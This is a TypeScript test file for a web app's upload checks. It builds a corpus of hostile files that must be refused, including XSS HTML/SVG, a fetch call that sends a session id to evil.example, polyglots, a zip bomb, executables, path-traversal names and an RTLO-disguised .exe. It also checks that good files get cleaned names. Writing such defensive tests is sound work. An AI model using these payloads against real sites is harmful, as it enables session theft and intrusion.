import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { sql } from 'drizzle-orm';
import { strToU8, zipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  makeCfbHeader,
  makeDocx,
  makePdf,
  makeZipBombDocx,
  refusalMessage,
  uploadFile,
} from '../documents.ts';
import { USER_LIMITS } from '../../src/http/rate-limit.ts';
import { DATABASES, registerUser, startTestApp, type TestApp } from '../harness.ts';

/**
 * Hostile uploads (issue 7 §3), extending modules/uploads/uploads.test.ts: a corpus of bad files
 * made here, every one refused with nothing stored; good files of each kind accepted; hostile
 * names cleaned; and after the run no file exists outside the storage root.
 */

const HTML = Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>');
const SVG = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>',
);
const JS = Buffer.from('fetch("//evil.example/"+localStorage.sessionId)\0');
const PNG = Buffer.from('89504e470d0a1a0a0000000d4948445200000001000000010806000000', 'hex');
const JPEG = Buffer.from('ffd8ffe000104a46494600010100000100010000ffdb', 'hex');
const GIF_SCRIPT = Buffer.from('GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;alert(1)//');
const ELF = Buffer.concat([Buffer.from('7f454c46020101', 'hex'), Buffer.alloc(64)]);
const MZ = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(128)]);
const RTLO = '\u202e';

describe.each(DATABASES)('upload corpus on %s', (kind) => {
  let t: TestApp;
  let token: string;
  let own: string;
  const storedFiles = () => {
    const dir = path.join(t.env.dataDir, 'files');
    return fs.existsSync(dir) ? fs.readdirSync(dir) : [];
  };

  beforeAll(async () => {
    // The data directory sits one level inside a fresh directory, so the places a "../../x" name
    // would escape to are this test's own: a stray /tmp/x on the machine failed the check once.
    own = fs.mkdtempSync(path.join(os.tmpdir(), 'grantleaf-corpus-'));
    t = await startTestApp(kind, { DATA_DIR: path.join(own, 'data') });
    token = (await registerUser(t)).token;
  });
  afterAll(async () => {
    await t.close();
    fs.rmSync(own, { recursive: true, force: true });
  });

  it('refuses every file of a 36-file hostile corpus and stores nothing', async () => {
    const pdf = await makePdf(['Valid page']);
    const docx = makeDocx(['Valid paragraph']);
    const zipNoWord = Buffer.from(zipSync({ 'readme.txt': strToU8('not a word document') }));
    const docxWithMacroOnly = Buffer.from(
      zipSync({ '[Content_Types].xml': strToU8('<Types/>'), 'word/vbaProject.bin': new Uint8Array(64) }),
    );
    const corpus: Array<[string, Buffer]> = [
      ['page.pdf', HTML],
      ['drawing.pdf', SVG],
      ['script.pdf', JS],
      ['page.docx', HTML],
      ['drawing.doc', SVG],
      ['script.docx', JS],
      ['page.doc', HTML],
      ['polyglot.pdf', Buffer.concat([Buffer.from('%PDF-1.7\n'), HTML])],
      ['polyglot-tail.pdf', Buffer.concat([HTML, pdf])],
      ['pdf-zip.pdf', Buffer.concat([pdf, docx])],
      ['archive.docx', zipNoWord],
      ['macro.docx', docxWithMacroOnly],
      ['bomb.docx', makeZipBombDocx(40)],
      ['binary.txt', Buffer.from([0x68, 0x69, 0x00, 0x01, 0x02])],
      ['elf.txt', ELF],
      ['latin1.txt', Buffer.from([0x63, 0x61, 0x66, 0xe9, 0x20, 0xff, 0xfe])],
      ['image.pdf', PNG],
      ['photo.docx', JPEG],
      ['gif-script.pdf', GIF_SCRIPT],
      ['program.pdf', ELF],
      ['program.doc', MZ],
      ['truncated.pdf', Buffer.from('%PDF-1.7\n')],
      ['empty.pdf', Buffer.alloc(0)],
      ['empty.docx', Buffer.alloc(0)],
      ['empty.txt', Buffer.alloc(0)],
      ['fake.doc', Buffer.from('Just words claiming to be Word 97')],
      ['page.html', HTML],
      ['drawing.svg', SVG],
      ['script.js', JS],
      ['program.exe', MZ],
      ['archive.zip', zipNoWord],
      ['noextension', Buffer.from('hello')],
      ['report.pdf.exe', MZ],
      ['../../x', Buffer.from('escape attempt')],
      [`invoice${RTLO}fdp.exe`, MZ],
      [`${'a'.repeat(10 * 1024)}.exe`, MZ],
    ];
    expect(corpus.length).toBeGreaterThanOrEqual(30);
    const before = storedFiles().length;
    for (const [i, [name, data]] of corpus.entries()) {
      // Attempts count toward the per-user upload limit, so the corpus is spread over accounts.
      if (i > 0 && i % (USER_LIMITS.upload.points - 5) === 0) token = (await registerUser(t)).token;
      const res = await uploadFile(t.baseUrl, token, name, data, 'application/pdf');
      expect(res.status, name.slice(0, 60)).toBe(400);
      expect(res.body.message, name.slice(0, 60)).toBe(refusalMessage(name));
    }
    expect(storedFiles().length).toBe(before);
  });

  it('accepts a good file of each kind, and keeps only cleaned names', async () => {
    const pdf = await makePdf(['Measurable objectives']);
    const good: Array<[string, Buffer, string]> = [
      ['proposal.pdf', pdf, 'proposal.pdf'],
      ['proposal.docx', makeDocx(['Objectives']), 'proposal.docx'],
      ['proposal.doc', makeCfbHeader(), 'proposal.doc'],
      ['notes.txt', Buffer.from('Budget: $40,000 — équipe'), 'notes.txt'],
      ['../../etc/cron.d/x.txt', Buffer.from('not a cron job'), 'x.txt'],
      ['a%00.pdf', pdf, 'a%00.pdf'],
      ['a\u0000.pdf', pdf, 'a.pdf'],
      [`cv${RTLO}txt.pdf`, pdf, 'cvtxt.pdf'],
      [`${'b'.repeat(10 * 1024)}.txt`, Buffer.from('long name'), `${'b'.repeat(116)}.txt`],
    ];
    token = (await registerUser(t)).token;
    for (const [name, data, stored] of good) {
      const res = await uploadFile(t.baseUrl, token, name, data);
      expect(res.status, name.slice(0, 60)).toBe(200);
      const id = res.body.fileUrl.split('/').pop();
      const [row] = (
        (await t.database.db.execute(sql`select original_name from uploads where id = ${id}`)) as unknown as {
          rows: any[];
        }
      ).rows;
      expect(row.original_name, name.slice(0, 60)).toBe(stored);
      // No separators, controls or bidi overrides survive into the name shown and downloaded.
      // eslint-disable-next-line no-control-regex -- control characters are exactly what must be absent
      expect(row.original_name).not.toMatch(/[/\\\u0000-\u001f\u202a-\u202e\u2066-\u2069]/);
    }
  });

  it('leaves no file outside the storage root', () => {
    const root = t.env.dataDir;
    const found: string[] = [];
    const walk = (dir: string) => {
      for (const name of fs.readdirSync(dir)) {
        const p = path.join(dir, name);
        if (fs.statSync(p).isDirectory()) walk(p);
        else found.push(path.relative(root, p));
      }
    };
    walk(root);
    const outside = found.filter((f) => !f.startsWith(`files${path.sep}`) && f !== 'file-encryption.key');
    expect(outside).toEqual([]);
    for (const f of found.filter((x) => x.startsWith('files')))
      expect(path.basename(f)).toMatch(/^[0-9a-f-]{36}$/);
    for (const escape of ['x', 'etc/cron.d/x.txt']) {
      expect(fs.existsSync(path.resolve(root, 'files', '../..', escape))).toBe(false);
      expect(fs.existsSync(path.resolve(root, '..', escape))).toBe(false);
    }
  });
});
